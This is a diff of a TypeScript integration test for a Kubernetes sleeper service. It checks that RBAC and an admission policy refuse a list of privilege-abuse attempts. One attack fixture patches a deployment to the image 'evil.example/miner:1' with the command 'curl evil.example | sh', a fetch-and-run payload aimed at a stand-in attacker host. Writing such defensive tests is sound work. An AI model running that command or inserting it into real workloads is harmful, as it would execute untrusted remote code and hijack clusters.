@@ -1,6 +1,7 @@
-// The in-cluster sleeper's RBAC for real: apply deploy/sleeper, mint a token for its
-// ServiceAccount with the TokenRequest API, and run sleeper passes as that identity. What it needs
-// works; everything else is refused with 403.
+// The in-cluster sleeper's RBAC and admission policy for real: apply deploy/sleeper, mint a token
+// for its ServiceAccount with the TokenRequest API, and run sleeper passes as that identity. What
+// it needs works; everything else is refused with 403, including what RBAC alone would allow
+// (issue #17, H1 and M1: another image, a label, kube-system, a namespace that is no environment).
 import { after, before, describe, it } from 'node:test';
 import assert from 'node:assert/strict';
 import fs from 'node:fs';
@@ -8,9 +9,12 @@ import path from 'node:path';
 import * as k8s from '@kubernetes/client-node';
 import { parseAllDocuments } from 'yaml';
 import { attachCluster } from '../cluster/cluster.ts';
-import { createEnvironmentFixture, eventually } from '../fixtures/environments.ts';
+import { createEnvironmentFixture, createWorkload, eventually } from '../fixtures/environments.ts';
 import type { KubeSession } from '../../src/adapters/kube.ts';
 import { ProblemEvents, reconcileAll, runSleeper } from '../../src/adapters/sleeper.ts';
+import { deleteEnvironment } from '../../src/adapters/environments.ts';
+import { loadKubeConfig } from '../../src/adapters/kube.ts';
+import { sleepEnvironment, wakeEnvironment } from '../../src/adapters/sleep.ts';
 
 const cluster = attachCluster();
 const kc = cluster.kubeConfig();
@@ -18,13 +22,18 @@ const core = kc.makeApiClient(k8s.CoreV1Api);
 const apps = kc.makeApiClient(k8s.AppsV1Api);
 const objects = k8s.KubernetesObjectApi.makeApiClient(kc);
 const deployDir = path.join(path.dirname(new URL(import.meta.url).pathname), '..', '..', 'deploy', 'sleeper');
-const MANIFESTS = ['namespace.yaml', 'serviceaccount.yaml', 'rbac.yaml', 'deployment.yaml'];
+const MANIFESTS = ['namespace.yaml', 'serviceaccount.yaml', 'rbac.yaml', 'admission-policy.yaml', 'deployment.yaml'];
 
 const run = `${Date.now().toString(36)}${Math.floor(Math.random() * 1e4).toString(36)}`;
 const owner = `rbac-it-${run}`;
 const selector = `t-env.dev/owner=${owner}`;
 const office = `rbac-it-${run}-office`;
 const corrupt = `rbac-it-${run}-corrupt`;
+/** Not an environment: the attacks' victim. */
+const victim = `rbac-it-${run}-victim`;
+const system = 'kube-system';
+const systemDeployment = `rbac-it-${run}-coredns`;
+const mergePatch = k8s.setHeaderOptions('Content-Type', k8s.PatchStrategy.MergePatch);
 // Sunday 12:00 UTC: the office schedule is asleep; Monday 09:00 it is awake.
 const sunday = new Date('2026-01-11T12:00:00Z');
 const monday = new Date('2026-01-12T09:00:00Z');
@@ -61,19 +70,24 @@ describe('the in-cluster sleeper\'s RBAC (deploy/sleeper)', () => {
     const workloads = [{ kind: 'Deployment' as const, name: 'api', replicas: 2 }, { kind: 'StatefulSet' as const, name: 'db', replicas: 1 }, { kind: 'CronJob' as const, name: 'report' }];
     await createEnvironmentFixture(kc, { name: office, owner, timezone: 'Europe/Berlin', awakeHours: 'Mon-Fri 08:00-20:00', workloads });
     await createEnvironmentFixture(kc, { name: corrupt, owner, timezone: 'Europe/Berlin', awakeHours: 'Mon-Fry 08:00-20:00', workloads });
+    await core.createNamespace({ body: { metadata: { name: victim } } });
+    await createWorkload(kc, victim, { kind: 'Deployment', name: 'payments', replicas: 1 });
+    await createWorkload(kc, system, { kind: 'Deployment', name: systemDeployment, replicas: 1 });
   });
 
   after(async () => {
-    await Promise.all([office, corrupt].map((name) => core.deleteNamespace({ name }).catch(() => undefined)));
+    await Promise.all([office, corrupt, victim].map((name) => core.deleteNamespace({ name }).catch(() => undefined)));
+    await apps.deleteNamespacedDeployment({ namespace: system, name: systemDeployment }).catch(() => undefined);
+    await core.patchNamespace({ name: system, body: { metadata: { labels: { 't-env.dev/environment': null, 't-env.dev/owner': null }, annotations: { 't-env.dev/timezone': null, 't-env.dev/awake-hours': null } } } }, mergePatch).catch(() => undefined);
     for (const obj of manifests().reverse()) await objects.delete(obj).catch(() => undefined);
   });
 
   it('grants exactly the documented rules', () => {
     const role = manifests().find((o) => o.kind === 'ClusterRole') as k8s.V1ClusterRole;
     assert.deepEqual(role.rules, [
-      { apiGroups: [''], resources: ['namespaces'], verbs: ['get', 'list', 'watch', 'patch'] },
-      { apiGroups: ['apps'], resources: ['deployments', 'statefulsets'], verbs: ['get', 'list', 'watch', 'patch'] },
-      { apiGroups: ['batch'], resources: ['cronjobs'], verbs: ['get', 'list', 'watch', 'patch'] },
+      { apiGroups: [''], resources: ['namespaces'], verbs: ['list', 'patch'] },
+      { apiGroups: ['apps'], resources: ['deployments', 'statefulsets'], verbs: ['get', 'list', 'patch'] },
+      { apiGroups: ['batch'], resources: ['cronjobs'], verbs: ['get', 'list', 'patch'] },
       { apiGroups: [''], resources: ['events'], verbs: ['create'] },
     ]);
     const deployment = manifests().find((o) => o.kind === 'Deployment') as k8s.V1Deployment;
@@ -159,5 +173,70 @@ describe('the in-cluster sleeper\'s RBAC (deploy/sleeper)', () => {
       for (const obj of optIn.reverse()) await objects.delete(obj).catch(() => undefined);
       await core.deleteNamespace({ name: expired }).catch(() => undefined);
     }
+  });
+
+  it('the admission policy refuses what RBAC alone would let the token do (H1)', async () => {
+    const saCore = sleeper.kc.makeApiClient(k8s.CoreV1Api);
+    const saApps = sleeper.kc.makeApiClient(k8s.AppsV1Api);
+    const saBatch = sleeper.kc.makeApiClient(k8s.BatchV1Api);
+    const image = { spec: { template: { spec: { containers: [{ name: 'payments', image: 'evil.example/miner:1', command: ['sh', '-c', 'curl evil.example | sh'] }] } } } };
+    // The policy takes effect once the API server has loaded it.
+    await eventually('the policy refuses a change of image', async () => {
+      try {
+        await saApps.patchNamespacedDeployment({ namespace: victim, name: 'payments', body: image }, mergePatch);
+        throw new Error('patched');
+      } catch (error) {
+        if (forbidden(error)) return true;
+        throw error;
+      }
+    });
+    const envApi = { ...image, spec: { template: { spec: { containers: [{ name: 'api', image: 'evil.example/miner:1' }] } } } };
+    const attacks: [string, () => Promise<unknown>][] = [
+      ['change the image and command of a deployment outside any environment', () => saApps.patchNamespacedDeployment({ namespace: victim, name: 'payments', body: image }, mergePatch)],
+      ['scale a deployment outside any environment', () => saApps.patchNamespacedDeployment({ namespace: victim, name: 'payments', body: { spec: { replicas: 0 } } }, mergePatch)],
+      ['label a namespace that is no environment privileged', () => saCore.patchNamespace({ name: victim, body: { metadata: { labels: { 'pod-security.kubernetes.io/enforce': 'privileged' } } } }, mergePatch)],
+      ['label an environment namespace privileged', () => saCore.patchNamespace({ name: office, body: { metadata: { labels: { 'pod-security.kubernetes.io/enforce': 'privileged' } } } }, mergePatch)],
+      ['change an environment\'s owner', () => saCore.patchNamespace({ name: office, body: { metadata: { labels: { 't-env.dev/owner': 'mallory' } } } }, mergePatch)],
+      ['set a marker on an environment', () => saCore.patchNamespace({ name: office, body: { metadata: { annotations: { 't-env.dev/asleep-until': '9999-12-31T23:59:59.999Z' } } } }, mergePatch)],
+      ['change an environment\'s awake hours', () => saCore.patchNamespace({ name: office, body: { metadata: { annotations: { 't-env.dev/awake-hours': 'always' } } } }, mergePatch)],
+      ['change the image of a workload in an environment', () => saApps.patchNamespacedDeployment({ namespace: office, name: 'api', body: envApi }, mergePatch)],
+      ['relabel a workload in an environment', () => saApps.patchNamespacedDeployment({ namespace: office, name: 'api', body: { metadata: { labels: { app: 'other' } } } }, mergePatch)],
+      ['annotate a workload with something else', () => saApps.patchNamespacedDeployment({ namespace: office, name: 'api', body: { metadata: { annotations: { 'example.com/x': 'y' } } } }, mergePatch)],
+      ['change a statefulset\'s template', () => saApps.patchNamespacedStatefulSet({ namespace: office, name: 'db', body: { spec: { template: { metadata: { labels: { app: 'db', x: 'y' } } } } } }, mergePatch)],
+      ['change a cronjob\'s schedule', () => saBatch.patchNamespacedCronJob({ namespace: office, name: 'report', body: { spec: { schedule: '* * * * *' } } }, mergePatch)],
+      ['scale a deployment in kube-system', () => saApps.patchNamespacedDeployment({ namespace: system, name: systemDeployment, body: { spec: { replicas: 0 } } }, mergePatch)],
+      ['record an event outside any environment', () => saCore.createNamespacedEvent({ namespace: victim, body: { metadata: { generateName: 'x-' }, involvedObject: { kind: 'Namespace', name: victim, namespace: victim }, reason: 'Fake', message: 'fake', type: 'Warning' } })],
+      ['record an event about something else than the namespace', () => saCore.createNamespacedEvent({ namespace: office, body: { metadata: { generateName: 'x-' }, involvedObject: { kind: 'Deployment', name: 'api', namespace: office }, reason: 'Fake', message: 'fake', type: 'Warning' } })],
+    ];
+    for (const [what, attempt] of attacks) {
+      // Refused by one of the policy's rules, not by an expression failing to evaluate.
+      await assert.rejects(attempt(), (error: unknown) => forbidden(error) && !/resulted in error/.test(String((error as k8s.ApiException<unknown>).body)), `the sleeper may not ${what}`);
+    }
+    const payments = await apps.readNamespacedDeployment({ namespace: victim, name: 'payments' });
+    assert.equal(payments.spec?.template.spec?.containers[0]?.image, 'registry.example/payments:1');
+    assert.equal(payments.spec?.replicas, 1);
+    assert.equal((await core.readNamespace({ name: victim })).metadata?.labels?.['pod-security.kubernetes.io/enforce'], undefined);
+    // What the sleeper does is still allowed: replicas and its annotation, in one patch.
+    await saApps.patchNamespacedDeployment({ namespace: office, name: 'api', body: { metadata: { annotations: { 't-env.dev/replicas-before-sleep': '2' } }, spec: { replicas: 0 } } }, mergePatch);
+    await saApps.patchNamespacedDeployment({ namespace: office, name: 'api', body: { metadata: { annotations: { 't-env.dev/replicas-before-sleep': null } }, spec: { replicas: 2 } } }, mergePatch);
+  });
+
+  it('kube-system labelled as an environment with an asleep schedule is left alone (M1)', async () => {
+    await core.patchNamespace({ name: system, body: { metadata: {
+      labels: { 't-env.dev/environment': 'true', 't-env.dev/owner': owner },
+      annotations: { 't-env.dev/timezone': 'Europe/Berlin', 't-env.dev/awake-hours': 'Mon-Fri 08:00-20:00' },
+    } } }, mergePatch);
+    const warnings: string[] = [];
+    const pass = await reconcileAll(sleeper, { selector, now: sunday, onEvent: (e) => { if (e.type === 'warning') warnings.push(e.message); } });
+    assert.equal(pass.environments.find((e) => e.name === system), undefined, 'not even considered');
+    assert.ok(warnings.some((w) => w.includes(`namespace ${system} is labelled`)), warnings.join('\n'));
+    assert.equal((await apps.readNamespacedDeployment({ namespace: system, name: systemDeployment })).spec?.replicas, 1);
+    // The same refusal for sleep, wake and delete from the CLI's adapters, as the cluster admin.
+    const admin = loadKubeConfig({ kubeconfig: cluster.kubeconfigPath });
+    await assert.rejects(sleepEnvironment(admin, system), /belongs to the cluster or to T-Env's sleeper/);
+    await assert.rejects(wakeEnvironment(admin, system, { minimumHours: 1 }), /belongs to the cluster or to T-Env's sleeper/);
+    await assert.rejects(deleteEnvironment(admin, system), /belongs to the cluster or to T-Env's sleeper/);
+    for (const name of ['default', 't-env-system']) await assert.rejects(sleepEnvironment(admin, name), /belongs to the cluster or to T-Env's sleeper/);
+    assert.equal((await apps.readNamespacedDeployment({ namespace: system, name: systemDeployment })).spec?.replicas, 1);
   });
 });
